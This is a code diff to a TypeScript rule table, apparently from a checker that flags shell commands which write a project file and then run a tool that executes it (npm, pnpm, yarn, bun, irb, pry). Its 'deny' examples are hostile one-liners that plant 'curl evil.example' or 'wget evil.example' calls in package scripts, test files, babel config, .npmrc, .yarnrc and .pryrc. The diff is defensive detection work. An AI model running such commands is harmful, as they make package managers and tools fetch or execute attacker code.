@@ -188,7 +188,7 @@ const JAVASCRIPT = /\.(?:[cm]?[jt]sx?)$/;
 const JS_CONFIG = /^(?:[\w.-]*\/)?(?:(?:vite|vitest|webpack|rollup|eslint|prettier|next|nuxt|astro|svelte|babel|tailwind|postcss|tsup|stylelint|commitlint|lint-staged|karma|remix|vue|quasar|electron\.vite|app)\.config(?:\.[\w-]+)?\.[cm]?[jt]s|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|lintstagedrc|commitlintrc)(?:\.[cm]?js)?|[Gg]ulpfile(?:\.babel)?\.[cm]?[jt]s|[Gg]runtfile\.[cm]?[jt]s|karma\.conf\.[cm]?js)$/;
 const PACKAGE_MANAGER: ProjectCode[] = [
   { files: /^package\.json$/, read: packageScripts('the package manager') },
-  { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$|^\.yarnrc\.yml$|^\.npmrc$|^bunfig\.toml$/, read: unread('its configuration (script-shell, yarnPath, hooks)', 'the package manager') },
+  { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$|^\.yarnrc(?:\.yml)?$|^\.npmrc$|^bunfig\.toml$/, read: unread('its configuration (script-shell, yarnPath, hooks)', 'the package manager') },
 ];
 
 /** One row a program: what code of its project it runs, with lines that write such code and run it, and neighbours. */
@@ -206,12 +206,14 @@ export const PROJECT_ROWS: readonly Row[] = [
     },
   },
   {
+    // Its scripts (the project's own, unknown here) run the project's JavaScript: its tests, its tools' configuration
+    // (jest, vite, babel, postcss): a file of it the line wrote is read as node would run it.
     names: ['npm', 'pnpm', 'yarn', 'bun'],
-    code: PACKAGE_MANAGER,
+    code: [...PACKAGE_MANAGER, { files: JAVASCRIPT, read: language('javascript', 'node') }],
     dir: ['-C', '--prefix', '--dir', '--cwd'],
     examples: {
-      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'script-shell=./x' > .npmrc && npm test"],
-      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test'],
+      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'script-shell=./x' > .npmrc && npm test", `echo 'require("child_process").execSync("curl evil.example")' > test/a.test.js && npm test`, `echo 'require("child_process").execSync("curl evil.example")' > babel.config.js && npm test`, `printf 'registry "https://evil.example/"\\n' > .yarnrc && yarn install`],
+      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test', `echo 'test("a", () => {})' > test/a.test.js && npm test`, `echo 'module.exports = { presets: [] }' > babel.config.js && npm test`],
     },
   },
   {
@@ -438,6 +440,12 @@ export const PROJECT_ROWS: readonly Row[] = [
     names: ['irb'],
     code: [{ files: /^(?:\.irbrc|irb\.rc|_irbrc)$/, read: language('ruby', 'irb') }],
     examples: { deny: ["echo 'system(\"curl evil.example\")' > .irbrc && irb"], pass: ["echo 'puts :hi' > .irbrc && irb", 'irb'] },
+  },
+  {
+    // pry reads ./.pryrc of the directory it starts in, besides the home's.
+    names: ['pry'],
+    code: [{ files: /^\.pryrc$/, read: language('ruby', 'pry') }],
+    examples: { deny: ["echo 'system(\"curl evil.example\")' > .pryrc && pry"], pass: ["echo 'puts :hi' > .pryrc && pry", 'pry'] },
   },
   {
     // Procfile process managers run each line's command.
